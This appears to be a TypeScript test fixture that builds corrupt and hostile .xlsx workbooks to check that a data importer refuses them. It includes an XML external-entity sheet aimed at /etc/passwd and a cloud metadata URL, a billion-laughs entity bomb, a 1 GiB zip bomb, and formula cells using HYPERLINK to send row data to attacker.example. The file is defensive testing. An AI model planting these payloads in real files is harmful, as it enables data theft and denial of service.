import { unzipSync } from 'fflate';
import { zipOf } from '../../../libs/connectors/src/test/zip-fixtures.js';
import { SOURCES, type CorpusEntry } from './corpus-entry.js';
import { billionLaughsDoctype, externalEntityDoctype, oneGibibyteOfZeros } from './hostile-bytes.js';
import { writeZip } from '../../../apps/vendor-sim/src/zip/deterministic-zip.js';

const FIRST_SHEET = 'xl/worksheets/sheet1.xml';

/**
 * The healthy DataService export (a zip of .xlsx workbooks) with every workbook changed by
 * `spoil`, which gets the workbook's parts by name and returns them (or other bytes).
 */
function spoilWorkbooks(spoil: (parts: Record<string, Uint8Array>) => Record<string, Uint8Array> | Buffer) {
  return (healthy: Buffer): Buffer => {
    const outer = unzipSync(healthy);
    const spoiled: Record<string, Uint8Array> = {};
    for (const [name, data] of Object.entries(outer)) {
      if (!name.endsWith('.xlsx')) continue;
      const result = spoil(unzipSync(data));
      spoiled[name] = Buffer.isBuffer(result) ? result : zipOf(result);
    }
    return zipOf(spoiled);
  };
}

/** The first sheet's XML changed by `edit`. */
const editFirstSheet = (edit: (xml: string) => string) =>
  spoilWorkbooks((parts) => ({ ...parts, [FIRST_SHEET]: Buffer.from(edit(Buffer.from(parts[FIRST_SHEET]!).toString('utf8'))) }));

/** A DOCTYPE before the sheet's root element, and an entity reference in its first data cell. */
const withDoctype = (doctype: string, reference: string) =>
  editFirstSheet((xml) => xml.replace('<worksheet ', `${doctype}<worksheet `).replace(/(<row r="2"[^>]*><c r="A2" t="str"><v>)[^<]*/, `$1${reference}`));

const dataService = (entry: Omit<CorpusEntry, 'source' | 'route'>): CorpusEntry => ({ source: SOURCES.dataService, route: 'dataservice.export', ...entry });

/** DataService exports: broken and hostile Excel workbooks inside a well-formed zip. */
export const workbookEntries: CorpusEntry[] = [
  dataService({
    id: 'xlsx-corrupt',
    checks: 'a workbook that is not an xlsx (its first half only) is refused, naming the workbook',
    replacement: { body: spoilWorkbooks((parts) => { const whole = zipOf(parts); return whole.subarray(0, Math.floor(whole.length / 2)); }) },
    codes: ['BAD_WORKBOOK'],
    says: /not a readable xlsx workbook: the workbook starts like a zip but its end is missing/,
  }),
  dataService({
    id: 'xlsx-without-workbook-part',
    checks: 'a workbook missing xl/workbook.xml (its sheet list) is refused rather than read without sheet names',
    replacement: { body: spoilWorkbooks(({ 'xl/workbook.xml': _dropped, ...parts }) => parts) },
    codes: ['BAD_WORKBOOK'],
    says: /no workbook part/,
  }),
  dataService({
    id: 'xlsx-truncated-sheet-xml',
    checks: 'a sheet whose XML stops half way is refused, not read as fewer APIs',
    replacement: { body: editFirstSheet((xml) => xml.slice(0, Math.floor(xml.length / 2))) },
    codes: ['BAD_WORKBOOK'],
    says: /truncated XML|not a readable xlsx/,
  }),
  dataService({
    id: 'xlsx-xml-external-entity',
    checks: 'a sheet declaring external entities (file:///etc/passwd, cloud metadata URL) is refused, nothing fetched or read',
    replacement: { body: withDoctype(externalEntityDoctype('worksheet'), '&file;&meta;') },
    codes: ['BAD_WORKBOOK'],
    says: /part "xl\/worksheets\/sheet1\.xml" declares a DOCTYPE or entities/,
  }),
  dataService({
    id: 'xlsx-billion-laughs',
    checks: 'a sheet with a billion-laughs entity bomb is refused without expanding it',
    replacement: { body: withDoctype(billionLaughsDoctype('worksheet'), '&lol9;') },
    codes: ['BAD_WORKBOOK'],
    says: /part "xl\/worksheets\/sheet1\.xml" declares a DOCTYPE or entities/,
  }),
  dataService({
    id: 'xlsx-formula-cells',
    checks: 'API names that are formulas (=HYPERLINK to an attacker, no cached value) are never evaluated: the rows are refused as nameless',
    replacement: {
      body: editFirstSheet((xml) =>
        xml.replace(/<c r="(B\d+)" t="str"><v>[^<]*<\/v><\/c>/g, (cell, ref: string) =>
          ref === 'B1' ? cell : `<c r="${ref}" t="str"><f>HYPERLINK("https://attacker.example/?q="&amp;A${ref.slice(1)},"open")</f></c>`,
        ),
      ),
    },
    codes: ['MISSING_API_NAME'],
    says: /sheet "[^"]+", row 2: the row has no API name/,
  }),
  dataService({
    id: 'xlsx-sheet-bomb',
    checks: 'a workbook whose sheet inflates from 1 MiB to 1 GiB is refused before exceljs inflates it (to memory or temp files)',
    replacement: {
      body: spoilWorkbooks((parts) => {
        const bomb = oneGibibyteOfZeros();
        // The workbook is the healthy one but for its first sheet, written as a precompressed bomb.
        const healthyParts = Object.entries(parts).filter(([name]) => name !== FIRST_SHEET).map(([name, data]) => ({ name, data }));
        return writeZip([...healthyParts, { name: FIRST_SHEET, deflated: bomb.deflated, crc32: bomb.crc32, uncompressedSize: bomb.size }]);
      }),
    },
    codes: ['BAD_WORKBOOK'],
    says: /entry "xl\/worksheets\/sheet1\.xml" declares 1073741824 bytes, over the 16777216-byte limit/,
    prepare: oneGibibyteOfZeros,
  }),
];
